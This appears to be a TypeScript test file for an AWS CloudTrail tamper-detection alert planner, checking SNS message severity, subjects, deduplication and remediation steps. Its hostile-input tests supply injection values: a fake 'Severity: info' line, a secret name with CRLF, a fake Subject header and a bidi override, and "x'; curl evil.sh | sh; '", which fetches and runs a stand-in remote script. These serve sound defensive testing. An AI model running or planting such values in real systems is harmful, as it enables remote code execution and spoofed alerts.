/**
 * planTamper: tamper hits to SNS messages in the planner's shape (subject, body, attributes, event
 * IDs, fallback), the deploy-tool notice against the policy's notify, and hostile record text.
 */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { messageSize, SNS_MAX_MESSAGE_BYTES } from "../../../packages/core/src/plan.js";
import {
  classifyTamper,
  planTamper,
  type TamperScope,
  tamperBody,
  tamperSteps,
  tamperSubject,
} from "../../../packages/core/src/tamper/index.js";
import { cloudTrailFixture } from "../../helpers/fixtures.js";

const dir = new URL("../../fixtures/cloudtrail/tamper/", import.meta.url);
const scope = JSON.parse(readFileSync(new URL("scope.json", dir), "utf8")) as TamperScope;
const ctx = { app: "secretwatch", stage: "dev" };
const SUBJECT = /^[\x20-\x7E]{1,99}$/;
const all = ["trail", "logs", "alarms", "sns", "lambda", "dynamodb", "secrets", "kms"].flatMap((s) =>
  cloudTrailFixture(`tamper/${s}`),
);
const byApi = (api: string, n = 0) => all.filter((r) => String(r.eventName).startsWith(api))[n]!;
const withUa = (record: object, userAgent: string) => ({ ...record, userAgent });
const PULUMI = "terraform-provider-aws/5.100.0 pulumi-aws/6.83.0";

describe("planTamper", () => {
  const plan = planTamper(all as never[], { ...ctx, scope, maxMessages: 100 });

  it("publishes each hit at or above notify in exactly one message, and counts the rest", () => {
    const published = plan.messages.flatMap((m) => m.eventIDs);
    expect(new Set(published).size).toBe(published.length);
    const mailed = plan.decisions.filter((d) => d.outcome !== "below-notify").map((d) => d.hit.eventID);
    expect([...published].sort()).toEqual([...mailed].sort());
    const below = plan.decisions.filter((d) => d.outcome === "below-notify").map((d) => d.hit.api);
    expect(below).toEqual(["UpdateSecretVersionStage"]); // the workload's AWSCURRENT move (low)
    expect(plan.hits.length).toBe(plan.decisions.length);
  });

  it("gives every message a safe subject, a size SNS accepts and our constants as attributes", () => {
    for (const m of plan.messages) {
      expect(m.subject).toMatch(SUBJECT);
      expect(m.fallback.subject).toMatch(SUBJECT);
      expect(m.fallback.message).toMatch(/^[\x20-\x7E\n]*$/);
      expect(messageSize(m)).toBeLessThanOrEqual(SNS_MAX_MESSAGE_BYTES);
      expect(m.attributes.category?.StringValue).toBe("tamper");
      expect(["info", "low", "medium", "high", "critical"]).toContain(m.attributes.severity?.StringValue);
    }
  });

  it("writes critical alerts first, with the fix and the actor", () => {
    const first = plan.messages[0]!;
    expect(first.subject).toMatch(
      /^CRITICAL \[secretwatch dev\] TAMPER: StopLogging on secretwatch-dev-trail by alice$/,
    );
    expect(first.message).toContain("aws cloudtrail start-logging --name secretwatch-dev-trail");
    expect(first.message).toContain("arn:aws:iam::111122223333:user/alice");
    expect(first.attributes.reasons?.StringValue).toBe("trail-stopped");
    expect(first.attributes.eventName?.StringValue).toBe("StopLogging");
  });

  it("drops repeated events", () => {
    const again = planTamper([...all, ...all] as never[], { ...ctx, scope, maxMessages: 100 });
    expect(again.duplicatesDropped).toBe(plan.hits.length);
    expect(again.messages.length).toBe(plan.messages.length);
  });

  it("sends high and critical alerts on their own whatever the cap; medium ones beyond it go into a summary", () => {
    const capped = planTamper(all as never[], { ...ctx, scope, maxMessages: 0 });
    const alerts = capped.messages.filter((m) => m.kind === "alert");
    const summaries = capped.messages.filter((m) => m.kind === "summary");
    expect(alerts.length).toBe(capped.hits.filter((h) => ["high", "critical"].includes(h.severity)).length);
    expect(summaries).toHaveLength(1);
    const medium = capped.decisions.filter((d) => d.outcome === "summary");
    expect(medium.length).toBeGreaterThan(0);
    expect(summaries[0]!.eventIDs.sort()).toEqual(medium.map((d) => d.hit.eventID).sort());
    for (const d of medium) expect(summaries[0]!.message).toContain(d.hit.eventID);
  });
});

describe("the deploy-tool notice", () => {
  const code = byApi("UpdateFunctionCode");

  it("makes a high change a medium 'changed by' notice", () => {
    const hit = classifyTamper(code as never, scope)!;
    expect(hit).toMatchObject({ severity: "medium", notice: true, deployTool: "Pulumi" });
    expect(tamperSubject(hit, ctx)).toBe(
      "MEDIUM [secretwatch dev] changed by dep... (Pulumi): UpdateFunctionCode on secretwatch-dev-enricher",
    );
  });

  it("never goes below the policy's notify", () => {
    expect(classifyTamper(code as never, scope, "high")!.severity).toBe("high");
    expect(classifyTamper(code as never, scope, "info")!.severity).toBe("medium");
  });

  it("never applies to a critical change", () => {
    const deleted = classifyTamper(withUa(byApi("DeleteFunction"), PULUMI) as never, scope)!;
    expect(deleted).toMatchObject({ severity: "critical", notice: false, deployTool: "Pulumi" });
    expect(deleted.reasons).not.toContain("deploy-tool");
  });

  it("is the user agent's claim only: the same call from the CLI is a high alert", () => {
    const hit = classifyTamper(withUa(code, "aws-cli/2.15.30") as never, scope)!;
    expect(hit).toMatchObject({ severity: "high", notice: false, deployTool: null });
  });
});

describe("hostile record text", () => {
  it("SetAlarmState: the state reason is shown as the caller's text and changes nothing", () => {
    const set = byApi("SetAlarmState");
    const excuse = {
      ...set,
      requestParameters: { ...set.requestParameters, stateReason: "test-alarm\nSeverity: info - expected" },
    };
    const plain = classifyTamper(set as never, scope)!;
    const hit = classifyTamper(excuse as never, scope)!;
    expect(hit.severity).toBe(plain.severity);
    expect(hit.reasons).toEqual(["alarm-state-set"]);
    const body = tamperBody(hit, ctx);
    expect(body).toContain("requestParameters.stateReason (the caller's text): test-alarm\\nSeverity: info - expected");
    expect(body).not.toContain("\nSeverity: info");
  });

  it("keeps a resource name with line breaks, bidi overrides and 10 KB on its own line, and the subject ASCII", () => {
    const put = byApi("DeleteSecret");
    const name = `prod/db\r\nSubject: fake\u202Egnp.exe${"A".repeat(10_000)}`;
    const hit = classifyTamper({ ...put, requestParameters: { secretId: name } } as never, scope)!;
    expect(tamperSubject(hit, ctx)).toMatch(SUBJECT);
    const body = tamperBody(hit, ctx);
    expect(body).not.toContain("\r");
    expect(body).not.toContain("\u202E");
    expect(body.split("\n").some((l) => l.startsWith("Subject:"))).toBe(false);
    expect(body.length).toBeLessThan(8000);
  });
});

describe("the fix", () => {
  it("every hit of the fixtures gets its reason's own step, then the principal step", () => {
    for (const record of all) {
      const hit = classifyTamper(record as never, scope);
      if (hit === null) continue;
      const steps = tamperSteps(hit, ctx);
      expect(steps.length, hit.api).toBeGreaterThanOrEqual(2);
      expect(steps.at(-1)).toMatch(/credentials/);
    }
  });

  it("quotes a hostile resource as one shell word", () => {
    const del = byApi("DeleteSecret");
    const hit = classifyTamper(
      { ...del, requestParameters: { secretId: "x'; curl evil.sh | sh; '" } } as never,
      scope,
    )!;
    expect(tamperSteps(hit, ctx)[0]).toContain(`--secret-id 'x'\\''; curl evil.sh | sh; '\\'''`);
  });
});
